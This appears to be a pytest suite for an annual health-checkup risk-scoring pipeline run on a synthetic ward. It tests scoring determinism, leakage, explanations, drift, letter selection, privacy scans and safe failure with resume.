"""The annual run end to end (kenshin score) on a small synthetic ward with a registered model.

One module fixture: synth (2,000 residents × 5 years) → ingest → train → promote → run_annual
for the last fiscal year with small letter budgets. Tests read its outputs; a few re-run parts
(chunk size, determinism, resume) into their own folders.
"""

from __future__ import annotations

import json
import sqlite3
import stat
from dataclasses import dataclass, replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from tests.conftest import TEST_KEY, temporary_env, trained_ward

pytestmark = pytest.mark.xdist_group("annual")

RESIDENTS, YEARS, SEED, FY = 2_000, 5, 5, 2025


@dataclass
class Annual:
    tmp: Path
    store: Path
    workdir: Path
    bundle: object
    cfg: object
    result: object


@pytest.fixture(scope="module")
def annual(tmp_path_factory) -> Annual:
    from kenshin.annual import AnnualRunConfig, run_annual
    from scoring.score import load_scoring_config
    from scoring.selection import Budget, load_config

    tmp = tmp_path_factory.mktemp("annual")
    uri = "sqlite:///" + (tmp / "mlflow.db").resolve().as_posix()
    with temporary_env(KENSHIN_PSEUDONYM_KEY=TEST_KEY, MLFLOW_TRACKING_URI=uri):
        bundle = trained_ward(tmp, RESIDENTS, YEARS, SEED, FY)
        selection = load_config().model_copy(update={"budget": Budget(advice=12, see_doctor=6)})
        cfg = AnnualRunConfig(
            store=tmp / "store", fiscal_year=FY, out=tmp / "out", workdir=tmp / "work",
            scoring=load_scoring_config(), selection=selection, letter_workers=1,
            report_pdf_residents=5,
        )  # fmt: skip
        result = run_annual(cfg)
        yield Annual(tmp, tmp / "store", tmp / "work", bundle, cfg, result)


@pytest.fixture(autouse=True)
def _env(monkeypatch, annual):
    monkeypatch.setenv("KENSHIN_PSEUDONYM_KEY", TEST_KEY)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "sqlite:///" + (annual.tmp / "mlflow.db").as_posix())


def _read(annual, name):
    return pd.read_parquet(annual.result.paths[name])


# --- scores ----------------------------------------------------------------------------------


def test_every_eligible_resident_is_scored_once_with_stamps(annual):
    from scoring.contracts import scores_schema

    scores = _read(annual, "scores")
    c = annual.result.counts
    assert len(scores) == c["eligible"] == c["scored"] > 500
    scores_schema(scenarios=annual.cfg.scoring.scenario_keys).validate(scores)
    assert scores["age"].between(40, 74).all()
    assert set(scores["index_fiscal_year"]) <= {FY, FY - 1}
    assert (scores["index_fiscal_year"] == FY - 1).sum() == c["eligible_by_fallback"] > 0
    assert scores["model_version"].eq("1").all()
    assert scores["store_sha256"].str.fullmatch(r"[0-9a-f]{64}").all()
    csv = pd.read_csv(annual.result.paths["scores_csv"])
    assert len(csv) == len(scores)
    np.testing.assert_allclose(csv["risk_diabetes"], scores["risk_diabetes"], rtol=1e-12)


def test_eligibility_counts_add_up(annual):
    c = annual.result.counts
    assert c["with_checkup"] == c["checkup_in_fy"] + c["checkup_in_previous_fy"]
    assert c["with_checkup"] == c["eligible"] + c["not_enrolled"] + c["age_out_of_range"]


def test_scores_match_the_registered_engine_on_the_same_features(annual):
    """The scores are the pyfunc model's predictions on the as-of features of the index row."""
    import mlflow

    from data.store import read_checkups
    from features import build_features

    scores = _read(annual, "scores").set_index("pseudonym")
    feats = build_features(read_checkups(annual.store))
    idx = scores[["index_fiscal_year", "exam_date"]].reset_index()
    rows = feats.merge(
        idx.rename(columns={"index_fiscal_year": "fiscal_year"}),
        on=["pseudonym", "fiscal_year", "exam_date"],
    )
    assert len(rows) == len(scores)
    model = mlflow.pyfunc.load_model("models:/kenshin-risk@champion")
    pred = model.predict(rows.drop(columns=["pseudonym", "fiscal_year", "exam_date"]))
    got = scores.loc[rows["pseudonym"], ["risk_diabetes", "hba1c_p50"]].to_numpy()
    np.testing.assert_allclose(got, pred[["risk_diabetes", "hba1c_p50"]].to_numpy(), rtol=1e-9)


def test_what_if_applies_only_where_it_makes_sense(annual):
    scores = _read(annual, "scores")
    smoker = scores["q_smoking"] == 1
    quit_cols = [c for c in scores if c.endswith("__quit_smoking")]
    assert quit_cols
    assert scores.loc[~smoker, quit_cols].isna().all().all()
    # Offered only where it lowers the risk (scoring.score): never at or above the risk itself.
    for col in quit_cols:
        shown = scores[col].notna()
        risk = scores.loc[shown, col.split("__")[0]]
        assert (scores.loc[shown, col] < risk).all(), col
    lose = scores["risk_diabetes__weight_loss_3kg"]
    assert lose[scores["bmi"] < 23].isna().all()
    applied = lose.notna()
    # Monotone constraints: less BMI and waist never raise the risk of diabetes.
    assert (lose[applied] <= scores.loc[applied, "risk_diabetes"] + 1e-12).all()
    assert (scores["risk_after_diabetes"] <= scores["risk_diabetes"] + 1e-12).all()
    has_best = scores["best_scenario_diabetes"].notna()
    assert has_best.any()
    # Some scenario lowers some risk for many residents (diabetes alone: few — its risk is
    # small and monotone in lifestyle, so most drops are under scenario_min_drop).
    best = [c for c in scores if c.startswith("best_scenario_")]
    assert scores[best].notna().any(axis=1).mean() > 0.3


def test_scores_do_not_depend_on_the_chunk_size(annual, tmp_path):
    from kenshin.annual import run_annual

    small = annual.cfg.scoring.model_copy(update={"chunk_size": 333})
    cfg = replace(annual.cfg, out=tmp_path / "o", scoring=small, letters=False, report=False,
                  log_mlflow=False)  # fmt: skip
    res = run_annual(cfg)
    a = _read(annual, "scores").drop(columns="config_hash")
    b = pd.read_parquet(res.paths["scores"]).drop(columns="config_hash")
    _same_bits(a, b)  # to the last bit (models.rowwise)
    # and the same column types in the file, whatever the first chunk held (a chunk without a
    # missing answer once made its column int8 for the whole file)
    import pyarrow.parquet as pq

    first = pq.read_schema(annual.result.paths["scores"])
    assert pq.read_schema(res.paths["scores"]).equals(first, check_metadata=True)


def _chunk(annual, residents: int = 500):
    """The registered model, the first ``residents`` eligible residents and their checkups."""
    from data.store import read_checkup_columns, read_checkup_history, read_enrollment
    from kenshin.annual import load_model
    from scoring.score import eligible_residents

    model = load_model(annual.cfg.model_uri, annual.workdir)
    fy, store = annual.cfg.fiscal_year, annual.store
    cand = read_checkup_columns(store, ["pseudonym", "exam_date", "age", "sex"], [fy, fy - 1])
    elig = eligible_residents(cand, read_enrollment(store), fy, annual.cfg.day, annual.cfg.scoring)
    index = elig.index.iloc[:residents].reset_index(drop=True)
    return model, index, read_checkup_history(store, index["pseudonym"], fy)


def _same_bits(a: pd.DataFrame, b: pd.DataFrame) -> None:
    pd.testing.assert_frame_equal(a, b, check_exact=True)
    for c in a.columns[[t.kind == "f" for t in a.dtypes]]:
        assert a[c].to_numpy().tobytes() == b[c].to_numpy().tobytes(), c


def test_scores_do_not_depend_on_the_prediction_threads(annual, monkeypatch):
    """A chunk scored and explained on 1 and on 2 prediction threads (models.train
    PREDICT_THREADS; on 2, each outcome's SHAP rows in two blocks): the same scores, SHAP and
    factors to the last bit."""
    import threading

    import models.train
    import scoring.score
    from scoring.score import explain, index_features, score_chunk

    monkeypatch.setattr(scoring.score, "SHAP_BLOCK_ROWS", 7)

    model, index, history = _chunk(annual)
    sc, fc = annual.cfg.scoring, model.feature_config
    names: set[str] = set()
    predict = models.train.booster_predict

    def recorded(*args, **kwargs):
        names.add(threading.current_thread().name.split("_")[0])
        return predict(*args, **kwargs)

    monkeypatch.setattr(models.train, "booster_predict", recorded)
    out = {}
    for threads in (1, 2):
        monkeypatch.setattr(models.train, "PREDICT_THREADS", threads)
        names.clear()
        scores, X = score_chunk(model.engine, history, index, sc, fc)
        shap = explain(model.engine, index_features(history, index.iloc[:60], fc))
        out[threads] = (scores, X, *shap, set(names))
    assert out[1][4] == {"MainThread"} and out[2][4] == {"kenshin-predict"}
    _same_bits(out[1][0], out[2][0])
    assert out[1][1].tobytes() == out[2][1].tobytes()
    _same_bits(out[1][2], out[2][2])
    pd.testing.assert_frame_equal(out[1][3], out[2][3], check_exact=True)


def test_shap_jobs_side_by_side_are_different_boosters(annual, monkeypatch):
    """A booster runs one call at a time (models.train.booster_predict): the explanations'
    SHAP jobs that the prediction threads take side by side are different outcomes' (an
    outcome's two blocks side by side ran one after the other: SHAP on one core)."""
    import models.train
    import scoring.score
    from scoring.score import explain, index_features

    monkeypatch.setattr(scoring.score, "SHAP_BLOCK_ROWS", 7)
    monkeypatch.setattr(models.train, "PREDICT_THREADS", 2)
    taken = []
    real = scoring.score.parallel_map

    def recorded(fn, items):
        items = list(items)
        taken.extend(items)
        return real(fn, items)

    monkeypatch.setattr(scoring.score, "parallel_map", recorded)
    model, index, history = _chunk(annual)
    explain(model.engine, index_features(history, index.iloc[:60], model.feature_config))
    outcomes = [job[0] for job in taken]
    assert len(outcomes) == 2 * len(model.engine.outcomes)
    assert all(a != b for a, b in zip(outcomes, outcomes[1:], strict=False))
    assert all(outcomes.count(o) == 2 for o in model.engine.outcomes)


def test_scores_do_not_depend_on_the_worker_processes(annual, monkeypatch):
    """The same residents scored in the run's own process and in three forked workers
    (kenshin.workers), each cut into its own chunks: the same scores and drift counts to the
    last bit, in order, and the workers really were other processes."""
    import os

    import kenshin.annual as run
    from kenshin.annual import load_model, score_chunks
    from kenshin.workers import chunk_bounds

    model = load_model(annual.cfg.model_uri, annual.workdir)
    index = _chunk(annual, residents=1_200)[1]
    sc = annual.cfg.scoring.model_copy(update={"chunk_size": 250})
    args = (annual.store, annual.cfg.fiscal_year, index, model.engine, sc, model.feature_config)
    score = run.score_chunk

    def recorded(*a, **k):
        scores, X = score(*a, **k)
        return scores.assign(pid=os.getpid()), X

    monkeypatch.setattr(run, "score_chunk", recorded)
    alone = list(score_chunks(*args, workers=1))
    forked = list(score_chunks(*args, workers=3))
    where = [int(s["pid"].iloc[0]) for s, _ in forked]
    assert {int(s["pid"].iloc[0]) for s, _ in alone} == {os.getpid()}
    assert os.getpid() not in where and len(set(where)) > 1
    # alone, chunks of at most 250; in three workers, of at most 250 // 3 and a multiple of
    # three of them (824 residents: 4 chunks of 206 alone, 12 of 68-69 forked)
    for out, workers in ((alone, 1), (forked, 3)):
        want = [b - a for a, b in chunk_bounds(len(index), 250, workers)]
        assert [len(s) for s, _ in out] == want
    assert len(forked) % 3 == 0 and len(forked) > len(alone)
    a, b = (pd.concat([s for s, _ in out], ignore_index=True) for out in (alone, forked))
    _same_bits(a.drop(columns="pid"), b.drop(columns="pid"))
    for name in alone[0][1]:
        assert np.array_equal(sum(c[name] for _, c in alone), sum(c[name] for _, c in forked))


def test_the_scores_files_are_the_same_bytes_whatever_the_worker_processes(
    annual, monkeypatch, tmp_path
):
    """A machine with more cores scores in more, smaller chunks: ``scores.parquet`` and
    ``scores.csv`` are still the same bytes (row groups of a fixed size, not one per chunk)."""
    from dataclasses import replace

    import kenshin.annual as run
    from scoring.outputs import AnnualOutputs

    cfg = replace(annual.cfg, scoring=annual.cfg.scoring.model_copy(update={"chunk_size": 250}))
    model = run.load_model(cfg.model_uri, annual.workdir)
    elig = run.eligible(cfg)
    stamps = run.score_stamps(cfg, model.summary, run.read_store_manifest(annual.store))
    monkeypatch.setattr(run, "SCORES_ROW_GROUP", 300)  # several groups, cut across chunks
    files = []
    for workers in (1, 3):  # chunks of 250, then of 83-84
        monkeypatch.setattr(run, "SCORE_WORKERS", workers)
        outs = AnnualOutputs(tmp_path / str(workers))
        outs.root.mkdir()
        run.write_scores(cfg, model, elig, stamps, outs, lambda *a: None)
        files.append((outs.scores.read_bytes(), outs.scores_csv.read_bytes()))
    assert files[0] == files[1]
    assert pd.read_parquet(tmp_path / "1" / outs.scores.name).shape[0] == len(elig.index) > 600


def test_a_what_if_is_scored_only_where_it_applies_as_on_every_row(annual):
    """Every scenario applied to every resident's index checkup and scored on every row, from
    the whole history (scoring.score.scenario_features cuts it at FeatureConfig.lookback and
    must give the same features, an older latest reading included): where it applies, the chunk's
    ``risk_<outcome>__<scenario>`` is that risk (where it lowers the risk); where it does not
    apply, NaN. The features and LightGBM's scores are the same to the bit; a logistic member's
    matrix product (BLAS) can differ in the last bit with the row's place in the batch, hence
    rtol 1e-12."""
    from features.build import to_matrix
    from scoring.score import (
        _history_to_index,
        apply_scenario,
        index_features,
        scenario_features,
        score_chunk,
    )

    model, index, history = _chunk(annual)
    engine, fc = model.engine, model.feature_config
    sc = annual.cfg.scoring.model_copy(
        update={"scenario_min_drop": 0.0, "scenario_lab_response": False}
    )
    scores, _ = score_chunk(engine, history, index, sc, fc)
    base = index_features(history, index, fc)
    hist = _history_to_index(history, index)
    hist = hist.sort_values(["pseudonym", "exam_date"], kind="stable", ignore_index=True)
    pid = hist["pseudonym"].to_numpy()
    last = np.r_[pid[1:] != pid[:-1], True]
    applied = 0
    for scenario in sc.scenarios:
        applies, _ = scenario_features(history, index, base, scenario, fc)
        edited = pd.concat([hist.loc[~last], apply_scenario(hist.loc[last], scenario)])
        every = index_features(edited.sort_index(), index, replace(fc, validate=False))
        # as a what-if is read: a forecast stack moves the unchanged rows' forecasts
        risk = engine.predict_proba(to_matrix(every, engine.feature_names),
                                    moved_from=to_matrix(base, engine.feature_names))  # fmt: skip
        for o in engine.outcomes:
            got = scores[f"risk_{o}__{scenario.key}"].to_numpy()
            assert np.isnan(got[~applies]).all(), (scenario.key, o)
            now, new = scores[f"risk_{o}"].to_numpy()[applies], risk[f"risk_{o}"].to_numpy()
            want = np.where(now - new[applies] >= 1e-12, new[applies], np.nan)
            np.testing.assert_allclose(got[applies], want, rtol=1e-12, atol=0, err_msg=o)
        applied += int(applies.sum())
    assert applied > len(index)


def test_scoring_reads_nothing_after_the_index_checkup(annual, tmp_path):
    """Adding wild later checkups to the history changes no score (no leakage)."""
    from data.store import read_checkup_history
    from kenshin.annual import load_model
    from scoring.score import eligible_residents, score_chunk

    m = load_model("models:/kenshin-risk@champion", annual.workdir)
    from data.store import read_checkup_columns, read_enrollment

    cand = read_checkup_columns(annual.store, ["pseudonym", "exam_date", "age", "sex"], [FY - 1])
    sc = annual.cfg.scoring.model_copy(update={"fallback_previous_year": False})
    el = eligible_residents(cand, read_enrollment(annual.store), FY - 1, pd.Timestamp(FY, 4, 1), sc)
    index = el.index.head(300)
    hist = read_checkup_history(annual.store, index["pseudonym"])  # includes FY checkups
    base, _ = score_chunk(m.engine, hist, index, sc, m.feature_config)
    later = hist["fiscal_year"].astype(int) == FY
    assert later.any()
    wild = hist.copy()
    wild.loc[later, ["hba1c", "sbp", "weight_kg"]] = [12.0, 220.0, 150.0]
    again, _ = score_chunk(m.engine, wild, index, sc, m.feature_config)
    pd.testing.assert_frame_equal(base, again)


# --- selection, explanations -------------------------------------------------------------


def test_selection_has_a_reason_for_every_scored_resident(annual):
    sel = _read(annual, "selection")
    scores = _read(annual, "scores")
    assert sorted(sel["pseudonym"]) == sorted(scores["pseudonym"])
    assert sel["reason"].notna().all()
    c = annual.result.counts
    assert sum(v for k, v in c.items() if k.startswith("reason_")) == len(sel)
    sent = sel[sel["sent"]]
    assert (sent["letter_type"] == "advice").sum() <= 12
    assert (sent["letter_type"] == "see_doctor").sum() <= 6
    assert (sel["reason"] == "CONTROL_ARM").sum() >= 1
    advice = sent[sent["letter_type"] == "advice"]
    # An advice letter names a habit to work on where the risk has one: every letter here but
    # dyslipidaemia's, whose risk is LDL's (a habit moves it little; 1 of 4 such letters named
    # one before the forecast stack, 1 of 7 with it, which sends more of them).
    other = advice[advice["outcome"] != "dyslipidemia"]
    assert len(other) >= 3 and other["factor_1"].notna().all(), advice[["outcome", "factor_1"]]


def test_explanations_add_up_to_the_model_score(annual):
    from kenshin.annual import load_model
    from scoring.contracts import EXPLANATIONS_SCHEMA

    ex = _read(annual, "explanations")
    EXPLANATIONS_SCHEMA.validate(ex)
    sel = _read(annual, "selection")
    assert set(ex["pseudonym"]) == set(sel.loc[sel["arm"].notna(), "pseudonym"])
    total = ex.groupby(["pseudonym", "outcome"])["contribution"].sum()
    raw = ex[ex["item"] != "calibration"].groupby(["pseudonym", "outcome"])["contribution"].sum()
    m = load_model("models:/kenshin-risk@champion", annual.workdir)
    scores = _read(annual, "scores").set_index("pseudonym")
    for o in ("diabetes", "hypertension"):
        risk = scores.loc[total.xs(o, level="outcome").index, f"risk_{o}"].to_numpy()
        # bias + items + other + calibration = the logit of the calibrated risk
        np.testing.assert_allclose(
            total.xs(o, level="outcome").to_numpy(), np.log(risk / (1 - risk)), atol=1e-6
        )
        # bias + items + other = the raw score; the calibrator and the ward's rate
        # (models.train.match_ward_rate) map it to the same risk (rows with HbA1c and fasting
        # glucose: the others may be scored by a glucose-pattern model)
        z = raw.xs(o, level="outcome")
        both = scores.loc[z.index, ["hba1c", "fpg"]].notna().all(axis=1).to_numpy()
        cal = m.engine.members.get(o)
        calibrator = m.engine.calibrators[o] if cal is None else cal.calibrator
        assert both.sum() >= 5
        q = calibrator(z.to_numpy()[both])
        shifted = np.log(q / (1 - q)) + m.engine.risk_shift.get(o, 0.0)
        np.testing.assert_allclose(shifted, np.log(risk[both] / (1 - risk[both])), atol=1e-6)
    # one line per clinical item: HbA1c now, its change and slope are never separate lines
    from scoring.contracts import explanations_add_up

    assert explanations_add_up(ex, scores.reset_index()).empty
    assert not ex["item"].isin(["hba1c_change", "hba1c_slope", "flag_hba1c", "bmi"]).any()
    assert ex.groupby(["pseudonym", "outcome"])["item"].apply(lambda s: s.is_unique).all()
    hba1c = ex[ex["item"] == "hba1c"]
    shown = r"^(\d+\.\d%(\(前回比 [+-]\d+\.\d\))?|未測定(\(直近 \d+\.\d%\))?)$"
    assert hba1c["value_text"].str.match(shown).all()
    # Factors are modifiable and raise the risk.
    fac = sel.dropna(subset=["factor_1"])
    from features.declarations import get

    assert all(get(f).modifiable for f in fac[["factor_1", "factor_2", "factor_3"]].stack())
    # ...and only where there is something to change (never "lose weight" at BMI < 23).
    long = fac.melt(id_vars="pseudonym", value_vars=["factor_1", "factor_2", "factor_3"]).dropna()
    long = long.merge(scores[["bmi", "q_smoking"]], left_on="pseudonym", right_index=True)
    weight = long["value"].isin(["weight_kg", "bmi", "waist_cm"])
    assert (long.loc[weight, "bmi"] >= 23).all() and weight.any()
    assert (long.loc[long["value"] == "q_smoking", "q_smoking"] == 1).all()


def test_drift_table_compares_with_the_training_rows(annual):
    drift = pd.read_csv(annual.result.paths["drift"])
    assert drift["psi"].notna().all()
    assert set(drift["status"]) <= {"ok", "watch", "shift"}
    status = drift.set_index("feature")["status"]
    # Same ward a few years on, against the latest training year (whose residents have
    # histories like today's): body measures and history features stay put; the question added
    # to the questionnaire in FY2024 (特定保健指導の受診歴), never answered in training, is flagged.
    assert status[["sex", "height_cm", "sbp", "hba1c"]].eq("ok").all()
    assert status[["weight_kg_change", "sbp_slope"]].ne("shift").all()
    assert status["q_guidance_received"] == "shift"
    run = json.loads(annual.result.paths["run"].read_text(encoding="utf-8"))
    assert run["drift_reference_fiscal_year"] == FY - 3  # test year FY-1, trained up to FY-3


# --- letters, reliability, privacy -----------------------------------------------------------


def test_run_json_counts_what_if_offers_and_forecast_conflicts(annual):
    from scoring.coherence import conflict_counts, conflicts

    scores = _read(annual, "scores")
    run = json.loads((annual.result.out / "run.json").read_text(encoding="utf-8"))
    offered = run["whatif_offered"]
    assert set(offered) == {s.key for s in annual.cfg.scoring.scenarios}
    for key, per_outcome in offered.items():
        for outcome, n in per_outcome.items():
            assert n == scores[f"risk_{outcome}__{key}"].notna().sum(), (key, outcome)
    assert sum(offered["weight_loss_3kg"].values()) > 0
    assert run["forecast_conflicts"] == conflict_counts(conflicts(scores))
    manifest = pd.read_csv(annual.result.paths["letters_manifest"]).fillna("")
    withheld = manifest["notes"].str.contains("forecast table withheld")
    assert run["counts"]["letters_forecast_withheld"] == withheld.sum()


def test_letters_for_sent_residents_only_owner_readable(annual):
    sel = _read(annual, "selection")
    letters = annual.result.paths["letters"] / "letters"
    pdfs = {p.stem for p in letters.glob("*.pdf")}
    assert pdfs == set(sel.loc[sel["sent"], "pseudonym"])
    for p in letters.glob("*.pdf"):
        assert stat.S_IMODE(p.stat().st_mode) == 0o600
    manifest = pd.read_csv(annual.result.paths["letters_manifest"])
    assert len(manifest) == len(pdfs)


def test_same_inputs_give_byte_identical_outputs(annual, tmp_path):
    from kenshin.annual import run_annual

    res = run_annual(replace(annual.cfg, out=tmp_path / "again", log_mlflow=False))
    for name in ("scores", "scores_csv", "selection", "selection_csv", "explanations", "drift"):
        assert res.paths[name].read_bytes() == annual.result.paths[name].read_bytes(), name
    a = pd.read_csv(res.paths["letters_manifest"])
    b = pd.read_csv(annual.result.paths["letters_manifest"])
    pd.testing.assert_frame_equal(a, b)


def test_a_valid_run_checks_its_contracts_without_pandera_s_machinery(
    annual, tmp_path, monkeypatch
):
    """The tables of a valid run's scoring and explaining steps (stored checkups, features,
    scores, explanations: a chunk at a time) pass data.schema_check's vectorised checks, so
    pandera's own ``validate`` is not called for them (the selection, whose text columns
    pandera converts, is), and the files are the same bytes as when pandera checks (and
    converts) every table."""
    import pandera.pandas as pa

    import data.schema_check
    from kenshin.annual import run_annual

    cfg = replace(annual.cfg, log_mlflow=False, letters=False, report=False)
    with monkeypatch.context() as m:
        m.setattr(data.schema_check, "surely_valid", lambda schema, frame: False)
        by_pandera = run_annual(replace(cfg, out=tmp_path / "pandera"))

    called, validate = [], pa.DataFrameSchema.validate

    def recorded(self, *args, **kwargs):
        called.append(self.name)
        return validate(self, *args, **kwargs)

    monkeypatch.setattr(pa.DataFrameSchema, "validate", recorded)
    res = run_annual(replace(cfg, out=tmp_path / "fast"))
    for name in ("scores", "scores_csv", "selection", "selection_csv", "explanations", "drift"):
        assert res.paths[name].read_bytes() == by_pandera.paths[name].read_bytes(), name
        assert res.paths[name].read_bytes() == annual.result.paths[name].read_bytes(), name
    assert "Selection" in called  # recorded where pandera is needed
    chunked = ("checkups", "features", "Scores", "Explanations")
    assert not [n for n in called if n.startswith(chunked)], called


def test_rerun_after_losing_letters_renders_only_the_missing(annual, tmp_path):
    import shutil

    from kenshin.annual import run_annual

    out = tmp_path / "resume"
    shutil.copytree(annual.cfg.out, out)
    letters = sorted((out / "letters" / "letters").glob("*.pdf"))
    for p in letters[:3]:
        p.unlink()
    steps = []
    res = run_annual(
        replace(annual.cfg, out=out, log_mlflow=False, report=False),
        lambda name, done, total: steps.append((name, done, total)),
    )
    assert res.counts["letters_rendered"] == 3
    assert steps[-1] == ("letters", len(letters), len(letters))  # the progress bar ends full
    assert ("score", res.counts["scored"], res.counts["scored"]) in steps
    assert res.counts["letters_reused"] == len(letters) - 3
    assert sorted((out / "letters" / "letters").glob("*.pdf")) == letters


def test_nothing_outside_the_letters_folder_holds_personal_data(annual):
    """Scores, selection, explanations, drift, report, run.json, MLflow: no ID, name, address."""
    from tests.pii_scan import find_pii, sqlite_blobs

    out = annual.cfg.out
    files = [p for p in out.rglob("*") if p.is_file() and "letters" not in p.relative_to(out).parts]
    files += [p for p in annual.workdir.rglob("*") if p.is_file()]
    assert {"scores.parquet", "selection.csv", "explanations.parquet", "run.json"} <= {
        p.name for p in files
    }
    blobs = {str(p): p.read_bytes() for p in files}
    blobs.update(sqlite_blobs(annual.tmp / "mlflow.db"))
    leaks = find_pii(blobs, annual.bundle.contacts, TEST_KEY)
    assert not leaks, leaks[:10]
    # The letters themselves do carry the names (the one place they belong): the scan sees them.
    from data.pseudonym import pseudonymise
    from tests.scoring.letter_helpers import pdf_text, squash

    contacts = annual.bundle.contacts
    names = pd.Series(
        contacts["name"].to_numpy(),
        index=pseudonymise(contacts["person_id"].astype(str), TEST_KEY.encode()).to_numpy(),
    )
    letter = next((out / "letters" / "letters").glob("*.pdf"))
    assert squash(names[letter.stem]) in squash("".join(pdf_text(letter)))
    with sqlite3.connect(annual.tmp / "mlflow.db") as db:
        kinds = db.execute("select value from tags where key = 'kenshin.kind'").fetchall()
    assert ("score",) in kinds


def test_a_model_with_another_feature_schema_is_refused(annual, monkeypatch):
    import features.declarations as decl
    from kenshin.annual import ModelMismatchError, load_model

    names = decl.feature_names()
    monkeypatch.setattr(decl, "feature_names", lambda: [*names, "new_feature"])
    with pytest.raises(ModelMismatchError, match="feature set"):
        load_model("models:/kenshin-risk@champion", annual.workdir)


def test_cli_score_bad_year_exits_2(annual, tmp_path):
    from typer.testing import CliRunner

    from kenshin.cli import app

    res = CliRunner().invoke(
        app,
        ["score", "--store", str(annual.store), "--year", "2030", "--out", str(tmp_path / "x"),
         "--workdir", str(annual.workdir)],
    )  # fmt: skip
    assert res.exit_code == 2
    assert "no checkups in FY2030" in res.output


def test_staff_report_has_a_page_for_every_explained_resident(annual):
    html = annual.result.paths["report_html"].read_text()
    ex = _read(annual, "explanations")
    assert all(p in html for p in ex["pseudonym"].unique())
    assert annual.result.paths["report_pdf"].read_bytes().startswith(b"%PDF")


def test_letters_of_a_real_selection_are_evaluated_a_year_later(annual, tmp_path):
    """score FY-1 → selection → the ward regenerated with that letter arm responding → ingest →
    kenshin evaluate finds the simulated effect (strong, so 2,000 residents suffice)."""
    from data.ingest import ingest
    from data.synth import SynthConfig, generate, write_bundle
    from kenshin.annual import run_annual
    from kenshin.commands import letters_from_selection, run_evaluate

    fy = FY - 1
    selection = annual.cfg.selection.model_copy(
        update={"budget": annual.cfg.selection.budget.model_copy(update={"advice": 400}),
                "control_rate": 0.5}
    )  # fmt: skip
    res = run_annual(
        replace(annual.cfg, fiscal_year=fy, out=tmp_path / "fy", selection=selection,
                letters=False, report=False, log_mlflow=False)
    )  # fmt: skip
    sel = pd.read_parquet(res.paths["selection"])
    assert (sel["arm"] == "control").sum() > 30
    cfg = SynthConfig(residents=RESIDENTS, years=YEARS, seed=SEED, last_fiscal_year=FY)
    cfg, summary = letters_from_selection(res.paths["selection"], cfg, None, 3.0)
    assert summary["letters_unmatched"] == 0 and cfg.letter_year == fy
    write_bundle(generate(cfg), tmp_path / "bundle", fmt="csv")
    ingest(tmp_path / "bundle", tmp_path / "store")
    result, paths = run_evaluate(tmp_path / "store", fy, tmp_path / "fy")
    rows = result.comparisons.set_index(["group", "measure"])
    weight = rows.loc[("all", "change_weight_kg")]
    assert weight["ci_high"] < 0, weight.to_dict()
    assert paths["csv"].exists()


# --- value forecasts, all-or-nothing outputs -------------------------------------------------


def test_forecasts_stay_inside_the_physical_range_and_ordered(annual):
    from data.validate import RANGES
    from kenshin.annual import load_model

    scores = _read(annual, "scores")
    m = load_model("models:/kenshin-risk@champion", annual.workdir)
    assert m.engine.forecast_items
    for item in m.engine.forecast_items:
        lo, hi = RANGES[item][:2]
        q = scores[[f"{item}_p10", f"{item}_p50", f"{item}_p90"]].dropna()
        assert len(q) and q.ge(lo).all().all() and q.le(hi).all().all(), item
        assert (q.iloc[:, 0] <= q.iloc[:, 1]).all() and (q.iloc[:, 1] <= q.iloc[:, 2]).all()
    # A resident at the bottom of the range: the change forecast would take γ-GT below zero.
    X = np.full((3, len(m.engine.feature_names)), np.nan)
    X[:, m.engine.feature_names.index("ggt")] = [1.0, 2.0, 2999.0]
    got = m.engine.predict_values(X)
    assert got["ggt_p10"].min() >= 1.0 and got["ggt_p90"].max() <= 3000.0
    assert (got["ggt_p10"] <= got["ggt_p50"]).all() and (got["ggt_p50"] <= got["ggt_p90"]).all()


def _listing(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_a_run_that_fails_writes_nothing(annual, tmp_path, monkeypatch):
    """A table refused by its contract (here: drift) stops the run before any output exists."""
    import pandera.pandas as pa

    import kenshin.annual as ka

    refuse = pa.DataFrameSchema(checks=[pa.Check(lambda df: False, error="injected")])
    monkeypatch.setattr(ka, "DRIFT_SCHEMA", refuse)
    out = tmp_path / "fresh"
    with pytest.raises(Exception, match="injected"):
        ka.run_annual(replace(annual.cfg, out=out, log_mlflow=False))
    assert not out.exists()
    assert not list(tmp_path.glob(".*partial*"))  # nothing left beside it either


def test_a_run_that_fails_late_leaves_the_last_outputs_untouched_and_resumes(
    annual, tmp_path, monkeypatch
):
    """The report fails after scores, selection and letters were made: the output folder of the
    previous run is left byte for byte; the next run reuses the letters already rendered."""
    import shutil

    import kenshin.annual as ka

    out = tmp_path / "again"
    shutil.copytree(annual.cfg.out, out)
    min((out / "letters" / "letters").glob("*.pdf")).unlink()  # one letter lost since
    before = _listing(out)

    def broken_report(*args, **kwargs):
        raise RuntimeError("typesetter died")

    monkeypatch.setattr(ka, "_report", broken_report)
    with pytest.raises(RuntimeError, match="typesetter died"):
        ka.run_annual(replace(annual.cfg, out=out, log_mlflow=False))
    assert _listing(out) == before
    stage = tmp_path / ".again.partial"
    assert sorted(p.name for p in stage.iterdir()) == ["letters"]  # kept for the next run
    monkeypatch.undo()
    res = ka.run_annual(replace(annual.cfg, out=out, log_mlflow=False))
    # The lost letter was rendered by the failed run; the rerun renders nothing.
    assert res.counts["letters_rendered"] == 0
    assert res.counts["letters_reused"] == res.counts["letters_requested"]
    assert not stage.exists()
    sel = pd.read_parquet(out / "selection.parquet")
    assert {p.stem for p in (out / "letters" / "letters").glob("*.pdf")} == set(
        sel.loc[sel["sent"], "pseudonym"]
    )
    assert res.paths["scores"] == out / "scores.parquet"


def test_cli_score_refused_by_a_contract_exits_3_without_partial_scores(
    annual, tmp_path, monkeypatch
):
    """What `kenshin score` did on a 2,000-resident ward when a forecast broke a contract: now one
    line, exit 3, a log in the work folder, and no partial outputs."""
    from typer.testing import CliRunner

    import kenshin.annual as ka
    from kenshin.cli import app
    from scoring.score import score_chunk

    def negative_p10(*args, **kwargs):
        scores, X = score_chunk(*args, **kwargs)
        return scores.assign(ggt_p10=-3.0), X

    monkeypatch.setattr(ka, "score_chunk", negative_p10)
    work = tmp_path / "work"  # the model comes from MLFLOW_TRACKING_URI; the log goes here
    work.mkdir()
    out = tmp_path / "out"
    res = CliRunner().invoke(
        app,
        ["score", "--store", str(annual.store), "--year", str(FY), "--out", str(out),
         "--workdir", str(work), "--no-letters", "--no-report"],
    )  # fmt: skip
    assert res.exit_code == 3, (res.output, res.exception)
